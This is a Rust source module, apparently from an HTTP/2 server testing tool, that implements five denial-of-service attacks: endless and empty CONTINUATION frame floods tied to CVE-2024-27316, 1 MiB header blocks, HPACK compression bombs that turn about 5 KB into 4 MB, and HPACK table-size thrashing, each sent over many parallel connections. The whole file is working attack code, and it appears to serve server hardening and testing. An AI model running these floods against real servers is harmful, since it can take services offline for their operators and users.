//! Header blocks that do not end, that are huge, or that grow when they are read.
//!
//! Source: RFC 7541 §4 (tables), §6; CVE-2024-27316 (CONTINUATION without end).

use std::time::Duration;

use futures_util::future::try_join_all;

use crate::wire::{FRAME_BYTES, Http2, field, frame, headers, kind, request, stream, string};
use crate::{Attack, Fault, Form, Load, Target, attack};

pub(crate) const ALL: &[Attack] = &[
    Attack::quick("endless-continuation", attack!(endless)),
    Attack::quick("empty-continuation", attack!(empty)),
    Attack::quick("huge-header-lists", attack!(huge)),
    Attack::quick("hpack-bombs", attack!(bombs)),
    Attack::quick("hpack-table-sizes", attack!(table_sizes)),
];

const PATIENCE: Duration = Duration::from_secs(2);

fn connections(form: Form) -> u64 {
    form.count(2, 16)
}

fn sum(connections: u64, sent: &[u64]) -> Load {
    Load { connections, attempts: sent.iter().sum() }
}

/// A block that goes on for as long as the server takes it.
async fn continued(target: &Target, form: Form, part: Vec<u8>, parts: u64) -> Result<Load, Fault> {
    let one = async || {
        let mut connection = Http2::open(target, &[]).await?;
        let _ = connection.send(&frame(kind::HEADERS, 0, 1, &request(target.port.path()))).await;
        let more = frame(kind::CONTINUATION, 0, 1, &part);
        Ok::<_, Fault>(connection.pour_and_read(parts, PATIENCE, |_| more.clone()).await)
    };
    let sent = try_join_all((0..connections(form)).map(|_| one())).await?;
    let most = sent.iter().max().copied().unwrap_or_default();
    if most == parts {
        return Err(Fault::Kept { what: "a header block that does not end", after: PATIENCE });
    }
    Ok(sum(connections(form), &sent))
}

async fn endless(target: Target, form: Form) -> Result<Load, Fault> {
    let part: Vec<u8> = field(b"x-long", &[b'x'; 1000]).repeat(16);
    continued(&target, form, part, form.count(4000, 40_000)).await
}

async fn empty(target: Target, form: Form) -> Result<Load, Fault> {
    continued(&target, form, Vec::new(), form.count(100_000, 1_000_000)).await
}

/// Whole blocks of 1 MiB, one a stream.
async fn huge(target: Target, form: Form) -> Result<Load, Fault> {
    let mut block = request(target.port.path());
    block.extend(field(b"x-huge", &[b'x'; FRAME_BYTES]).repeat(64));
    let one = async || {
        let connection = Http2::open(&target, &[]).await?;
        let block = |number| headers(stream(number), &block, true);
        Ok::<_, Fault>(connection.pour_and_read(form.count(20, 200), PATIENCE, block).await)
    };
    let sent = try_join_all((0..connections(form)).map(|_| one())).await?;
    Ok(sum(connections(form), &sent))
}

/// A field of nearly 4 KiB is put into the table, and named a thousand times by one byte each: 4 MB from 5 KB.
async fn bombs(target: Target, form: Form) -> Result<Load, Fault> {
    let mut first = request(target.port.path());
    first.push(0x40);
    first.extend([string(b"x-bomb"), string(&[b'x'; 4000])].concat());
    let mut next = request(target.port.path());
    // The first entry behind the 61 of the static table.
    next.extend([0xbe; 10_000]);
    let one = async || {
        let connection = Http2::open(&target, &[]).await?;
        let block = |number| headers(stream(number), if number == 0 { &first } else { &next }, true);
        Ok::<_, Fault>(connection.pour_and_read(form.count(100, 2000), PATIENCE, block).await)
    };
    let sent = try_join_all((0..connections(form)).map(|_| one())).await?;
    Ok(sum(connections(form), &sent))
}

/// The table is emptied and filled in turn, in each block and beyond its size.
async fn table_sizes(target: Target, form: Form) -> Result<Load, Fault> {
    let mut block = [0x20, 0x3f, 0xe1, 0x1f].repeat(200);
    block.extend(request(target.port.path()));
    let beyond = [&[0x3f, 0xff, 0xff, 0xff, 0xff, 0x0f][..], &request(target.port.path())].concat();
    let one = async || {
        let connection = Http2::open(&target, &[]).await?;
        let block = |number| headers(stream(number), if number == 50 { &beyond } else { &block }, true);
        Ok::<_, Fault>(connection.pour_and_read(form.count(100, 2000), PATIENCE, block).await)
    };
    let sent = try_join_all((0..connections(form)).map(|_| one())).await?;
    Ok(sum(connections(form), &sent))
}
